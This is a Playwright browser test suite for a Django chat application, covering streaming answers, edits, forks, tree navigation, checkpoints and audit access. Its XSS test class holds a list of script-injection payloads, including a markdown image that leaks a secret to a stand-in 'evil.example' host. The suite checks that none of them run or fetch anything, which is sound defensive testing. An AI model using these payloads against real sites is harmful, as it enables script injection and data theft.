"""The browser UI in a real browser: Playwright for Python driving Debian's Chromium
against a live Django server and the fake model provider.

Locally these skip (with a message) when there is no Chromium; with CI=true a missing
Chromium fails the run instead.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path
from typing import Any
from unittest import SkipTest

from django.contrib.staticfiles.testing import StaticLiveServerTestCase

from conversations import selectors, services
from conversations.models import Conversation, Message
from conversations.providers.fake import FakeLLMServer, Step
from tests.builders import make_user, new_conversation, text
from tests.fake_models import serve_fake_models
from tests.live_server import READY_SECONDS

# Playwright's sync API runs an event loop in this thread; the ORM calls the tests make
# between browser steps are still plain synchronous calls.
os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")

CHROMIUM = os.environ.get("ARBOR_CHROMIUM", "/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]  # fmt: skip
SCREENSHOTS = Path(__file__).resolve().parent.parent / "var" / "screenshots"

# Runs before any page script: a flag that any script the page lets through would set,
# and a record of what streamed into the live answer.
INIT_SCRIPT = """
window.__xss = 0;
window.alert = function () { window.__xss += 1; };
window.__live = [];
new MutationObserver(function () {
  var el = document.querySelector('#live-answer .live-text');
  if (el && el.textContent && window.__live[window.__live.length - 1] !== el.textContent) {
    window.__live.push(el.textContent);
  }
}).observe(document, {subtree: true, childList: true, characterData: true});
"""


def _browser_available() -> None:
    missing = None
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        missing = "the playwright package is not installed (pip install -e '.[dev]')"
    if missing is None and not (os.path.exists(CHROMIUM) or shutil.which(CHROMIUM)):
        missing = f"no Chromium at {CHROMIUM} (apt-get install -y chromium)"
    if missing:
        if os.environ.get("CI") == "true":
            raise RuntimeError(f"browser tests cannot run in CI: {missing}")
        raise SkipTest(f"browser tests skipped: {missing}")


def start_chromium() -> tuple[Any, Any]:
    """Playwright and Debian's Chromium, started (stop with ``stop_chromium``); a test
    class calls it once in setUpClass (it skips, or fails under CI, without Chromium)."""
    _browser_available()
    from playwright.sync_api import sync_playwright

    playwright = sync_playwright().start()
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    return playwright, browser


def stop_chromium(playwright: Any, browser: Any) -> None:
    browser.close()
    playwright.stop()


# Playwright's ceiling on each wait of a page: half of a server's start (READY_SECONDS).
BROWSER_WAIT_MS = int(READY_SECONDS * 1000) // 2


class BrowserTestCase(StaticLiveServerTestCase):
    host = "127.0.0.1"

    @classmethod
    def setUpClass(cls) -> None:
        _browser_available()
        super().setUpClass()
        cls.fake = FakeLLMServer()
        cls.models = serve_fake_models(cls.fake)
        cls.models.__enter__()
        cls.playwright, cls.browser = start_chromium()

    @classmethod
    def tearDownClass(cls) -> None:
        stop_chromium(cls.playwright, cls.browser)
        cls.models.__exit__(None, None, None)
        super().tearDownClass()

    def setUp(self) -> None:
        self.outside: list[str] = []
        self.csp_errors: list[str] = []
        self._open({"viewport": {"width": 1200, "height": 900}})

    def _open(self, options: dict[str, Any]) -> None:
        self.context = self.browser.new_context(**options)
        self.context.add_init_script(INIT_SCRIPT)
        self.addCleanup(self.context.close)
        self.page = self.context.new_page()
        # A ceiling, not a wait: a page that is right returns at once, and one on a busy
        # machine (a build running beside the tests) gets the time it needs.
        self.page.set_default_timeout(BROWSER_WAIT_MS)
        self.page.on("request", self._record_request)
        self.page.on("console", self._record_console)
        self.page.on("dialog", lambda dialog: dialog.dismiss())

    def use(self, options: dict[str, Any], username: str) -> None:
        """Swap the browser context for one with these options (a phone viewport, no
        JavaScript) and sign ``username`` in again."""
        self.context.close()
        self._open(options)
        self.sign_in(username)

    def _record_request(self, request: Any) -> None:
        if not request.url.startswith(self.live_server_url):
            self.outside.append(request.url)

    def _record_console(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.csp_errors.append(message.text)

    def url(self, path: str) -> str:
        return f"{self.live_server_url}{path}"

    def sign_in(self, username: str) -> None:
        self.page.goto(self.url("/c/00000000-0000-0000-0000-000000000000/"))
        assert "/login/" in self.page.url  # every page but sign-in needs a user
        self.page.fill("input[name=username]", username)
        self.page.fill("input[name=password]", "pw")
        self.page.click("button:has-text('Sign in')")
        self.page.wait_for_load_state()
        self.page.goto(self.url("/"))

    def shot(self, name: str) -> None:
        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)

    def assert_clean(self) -> None:
        assert self.page.evaluate("window.__xss") == 0
        assert self.outside == [], self.outside
        assert self.csp_errors == [], self.csp_errors


class ChatTests(BrowserTestCase):
    def test_send_stream_edit_navigate_and_reload(self) -> None:
        make_user("alice")
        self.sign_in("alice")
        page = self.page
        page.locator("details.new-conversation").evaluate("d => { d.open = true; }")
        page.fill("input[name=title]", "Browser chat")
        page.select_option("details.new-conversation select[name=model]", "openai/test")
        page.click("button:has-text('Create')")
        page.wait_for_url(re.compile(r"/c/[0-9a-f-]+/$"))
        conv = Conversation.objects.get(title="Browser chat")

        # Paced like a model, so the page shows the answer growing even on a busy machine.
        self.fake.push(Step.reply("Streaming answers arrive word by word, " * 6, pace=0.02))
        page.fill("#composer textarea", "Tell me about **streams**")
        page.click("#composer button")
        page.wait_for_selector("#path .msg.assistant .md")  # the saved, rendered answer
        live = page.evaluate("window.__live")
        assert len(live) >= 2, live  # the text grew in steps while it streamed
        assert "Streaming answers" in page.inner_text("#path .msg.assistant")
        assert "<strong>" in page.inner_html("#path .msg.user .md")
        self.shot("chat")

        # Edit the prompt: a sibling with a new answer, then switch between versions.
        self.fake.push(Step.reply("A second answer."))
        page.click("#path .msg.user summary:has-text('Edit')")
        page.fill("#path .msg.user textarea[name=text]", "Tell me about rivers")
        page.click("#path .msg.user button:has-text('Send edit')")
        page.wait_for_selector("#path .msg.user .sib-pos:has-text('2/2')")
        assert "A second answer." in page.inner_text("#path")
        page.click("#path .msg.user .sib-prev")
        page.wait_for_selector("#path .msg.user .sib-pos:has-text('1/2')")
        assert "Streaming answers" in page.inner_text("#path")
        page.reload()
        assert page.inner_text("#path .msg.user .sib-pos") == "1/2"  # the server moved the tip
        # Keyboard: select the prompt and press ] for the next version.
        page.focus("#path .msg.user")
        page.keyboard.press("]")
        page.wait_for_selector("#path .msg.user .sib-pos:has-text('2/2')")
        conv.refresh_from_db()
        assert "A second answer." in Message.objects.get(pk=conv.tip_id).parts[0]["text"]  # type: ignore[misc]

        # Regenerate: a new assistant sibling.
        self.fake.push(Step.reply("A third answer."))
        page.click("#path .msg.assistant button.regenerate")
        page.wait_for_selector("#path .msg.assistant .sib-pos:has-text('2/2')")
        assert "A third answer." in page.inner_text("#path")
        self.shot("chat-versions")
        self.assert_clean()


class TreeToolsTests(BrowserTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.user = make_user("alice")
        self.conv, self.nodes = new_conversation(
            self.user,
            "plan>the quick brown fox>more, plan>the slow brown fox>other",
            title="Branchy",
        )
        services.checkpoint_create(conversation=self.conv, label="after-plan",
                                   message_id=self.nodes["plan"].pk)  # fmt: skip
        self.sign_in("alice")

    def test_a_form_opened_after_the_session_ended_goes_to_sign_in_and_back(self) -> None:
        page = self.page
        chat = f"/c/{self.conv.pk}/"
        page.goto(self.url(chat))
        page.wait_for_load_state("networkidle")  # the sidebar's fragment has come too
        self.context.clear_cookies()  # the session ends (signed out elsewhere, expired)
        first = f"#msg-{self.nodes['plan'].pk}"
        page.click(f"{first} summary:has-text('Fork')")
        page.wait_for_url(re.compile(r"/login/\?next="))
        assert page.locator(f"{first}").count() == 0  # the whole page went, not the form
        page.fill("input[name=username]", "alice")
        page.fill("input[name=password]", "pw")
        page.click("button:has-text('Sign in')")
        page.wait_for_url(self.url(chat))
        page.click(f"{first} summary:has-text('Fork')")
        page.wait_for_selector(f"{first} input[name=title]")  # now the form itself
        self.assert_clean()

    def test_list_fork_and_provenance(self) -> None:
        page = self.page
        page.goto(self.url(f"/c/{self.conv.pk}/"))
        first = f"#msg-{self.nodes['the slow brown fox'].pk}"
        page.click(f"{first} summary:has-text('Fork')")
        page.check(f"{first} input[value=subtree]")
        page.fill(f"{first} input[name=title]", "Forked here")
        page.click(f"{first} button:has-text('Fork')")
        page.wait_for_selector("text=Forked from")
        fork = Conversation.objects.get(title="Forked here")
        assert page.url.endswith(f"/c/{fork.pk}/")
        origin = self.nodes["the slow brown fox"].pk
        page.click(f"a[href='/c/{self.conv.pk}/?m={origin}#msg-{origin}']")
        page.wait_for_selector(f"a.badge.fork[href='/c/{fork.pk}/']")
        page.goto(self.url("/"))
        assert "fork of" in page.inner_text(f"#conv-{fork.pk}")
        self.shot("list")
        self.assert_clean()

    def test_tree_map_click_moves_the_tip(self) -> None:
        page = self.page
        page.goto(self.url(f"/c/{self.conv.pk}/tree/"))
        assert page.locator(".node.is-tip").count() == 1
        page.click("a.expand:has-text('another branch')")
        page.wait_for_selector(f"#node-{self.nodes['more'].pk}")
        self.shot("tree")
        page.click(f"#node-{self.nodes['the quick brown fox'].pk} .node-button")
        page.wait_for_url(re.compile(r"/c/[0-9a-f-]+/#msg-"))
        self.conv.refresh_from_db()
        assert self.conv.tip_id == self.nodes["the quick brown fox"].pk
        assert "the quick brown fox" in page.inner_text("#path")
        self.assert_clean()

    def test_compare_two_siblings_and_continue(self) -> None:
        page = self.page
        a, b = self.nodes["the quick brown fox"], self.nodes["the slow brown fox"]
        page.goto(self.url(f"/c/{self.conv.pk}/"))
        page.click(f"#msg-{b.pk} a.compare")
        page.wait_for_selector(".compare-grid")
        # The message compared from comes first; the other shows what it changes.
        assert page.inner_text(f"#col-{b.pk} del") == "slow"
        assert page.inner_text(f"#col-{a.pk} ins") == "quick"
        self.shot("compare")
        page.click(f"#col-{a.pk} button:has-text('Continue from this one')")
        page.wait_for_selector(f"#msg-{a.pk}")
        self.conv.refresh_from_db()
        assert self.conv.tip_id == self.nodes["more"].pk  # the newest leaf below it
        self.assert_clean()

    def test_label_and_rewind(self) -> None:
        page = self.page
        page.goto(self.url(f"/c/{self.conv.pk}/checkpoints/"))
        page.fill("input[name=label]", "end")
        page.click("button:has-text('Add checkpoint')")
        page.wait_for_selector("li.checkpoint:has-text('end')")
        page.click("li.checkpoint:has-text('after-plan') summary:has-text('Rewind here')")
        page.fill("li.checkpoint:has-text('after-plan') textarea", "Foxes were explored.")
        self.shot("checkpoints")
        page.click("button:has-text('Rewind to “after-plan”')")
        page.wait_for_selector("#path .msg.tip:has-text('Foxes were explored.')")
        self.conv.refresh_from_db()
        path = selectors.message_path(conversation_id=self.conv.pk, tip_id=self.conv.tip_id)
        assert [m.origin for m in path] == ["turn", "digest"]
        self.assert_clean()


class AuditTests(BrowserTestCase):
    def test_non_staff_get_403_and_staff_see_the_audit(self) -> None:
        make_user("alice")
        make_user("root", staff=True)
        self.sign_in("alice")
        response = self.page.goto(self.url("/audit/"))
        assert response is not None and response.status == 403
        self.context.clear_cookies()
        self.sign_in("root")
        response = self.page.goto(self.url("/audit/"))
        assert response is not None and response.status == 200
        self.shot("audit")


class XssTests(BrowserTestCase):
    """A catalogue of hostile content rendered in the browser: no script runs and nothing
    is fetched from outside."""

    PAYLOADS = [
        # First, so it is in the previews the tree graph puts in SVG <title> and <text>.
        '</text></title><script>alert(1)</script>" onload="alert(1)',
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)" id="jslink">raw link</a>',
        "[md link](javascript:alert(1))",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "![exfil](https://evil.example/leak.png?secret=42)",
        '<iframe src="https://evil.example/"></iframe>',
        '<div style="background:url(https://evil.example/bg.png)">styled</div>',
        "```html\n<script>alert(1)</script>\n```",
        "<details open ontoggle=alert(1)>x</details>",
    ]

    def test_nothing_in_the_catalogue_runs_or_loads(self) -> None:
        user = make_user("alice")
        conv = services.conversation_create(
            owner=user, title="<script>alert(1)</script><img src=x onerror=alert(1)>"
        )
        call = {"type": "tool_call", "id": "c1", "name": "<b>tool</b>",
                "arguments": {"html": "<img src=x onerror=alert(1)>"}}  # fmt: skip
        result = {
            "type": "tool_result",
            "call_id": "c1",
            "is_error": False,
            "parts": text("<script>alert(1)</script><img src=https://evil.example/r.png>"),
        }
        services.turn_append(
            conversation=conv,
            parent_id=None,
            expected_version=0,
            messages=[
                {"role": "user", "parts": text("\n\n".join(self.PAYLOADS))},
                {"role": "assistant", "parts": [*text("\n\n".join(self.PAYLOADS)), call]},
                {"role": "tool", "parts": [result]},
                {"role": "assistant", "parts": [{"type": "thinking", "text": self.PAYLOADS[1]},
                                                *text(self.PAYLOADS[0])]},
            ],
        )  # fmt: skip
        conv.refresh_from_db()
        services.checkpoint_create(conversation=conv, label="<img src=x onerror=alert(1)>")
        fork = services.conversation_fork(
            message=Message.objects.get(pk=conv.tip_id),  # type: ignore[misc]
            owner=user,
            title="<svg onload=alert(1)>",
        )
        self.sign_in("alice")
        page = self.page
        for path in ["/", f"/c/{conv.pk}/", f"/c/{conv.pk}/tree/", f"/c/{conv.pk}/checkpoints/",
                     f"/c/{fork.pk}/"]:  # fmt: skip
            page.goto(self.url(path))
            # Open every collapsible, hover every link: nothing may fire.
            page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
            page.wait_for_timeout(300)
            assert page.evaluate("window.__xss") == 0, path
            if path.endswith("/tree/"):  # the graph drew the hostile previews as text
                assert page.locator("svg.tg .gnode").count() >= 4
                assert page.locator("svg.tg script").count() == 0
        page.goto(self.url(f"/c/{conv.pk}/"))
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        hrefs = page.eval_on_selector_all("#path a", "els => els.map(e => e.getAttribute('href'))")
        assert not [h for h in hrefs if h and h.lower().startswith("javascript")], hrefs
        assert page.locator("#path a.remote-image").count() >= 1  # an image became a link
        assert (
            page.locator("#path img, #path svg:not(a.badge.fork > svg.icon), #path iframe").count()
            == 0
        )
        self.shot("xss-catalogue")
        self.assert_clean()
